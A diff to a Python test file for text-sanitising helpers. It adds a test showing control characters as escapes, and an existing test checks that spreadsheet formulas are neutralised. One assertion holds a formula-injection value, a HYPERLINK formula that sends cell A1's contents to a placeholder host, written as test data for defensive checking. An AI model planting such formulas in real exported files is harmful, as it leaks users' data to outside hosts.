@@ -1,7 +1,7 @@
 from hypothesis import given
 from hypothesis import strategies as st
 
-from tiendo.lib.text import control_character, neutralise
+from tiendo.lib.text import control_character, neutralise, visible
 
 CONTROLS = [chr(code) for code in [*range(0x20), 0x7F] if chr(code) not in "\t\n\r"]
 
@@ -21,3 +21,8 @@ def test_it_finds_the_first_control_character_wherever_it_is(before, control, af
 def test_it_neutralises_text_a_spreadsheet_would_run():
     assert neutralise('=HYPERLINK("http://x?leak="&A1)') == "'=HYPERLINK(\"http://x?leak=\"&A1)"
     assert neutralise("-5%") == "'-5%" and neutralise("Nguyễn Văn A") == "Nguyễn Văn A"
+
+
+def test_it_shows_control_characters_as_escapes():
+    assert visible("5\x00 và\x1b") == "5\\x00 và\\x1b"
+    assert visible("dòng 1\n\tdòng 2") == "dòng 1\n\tdòng 2"
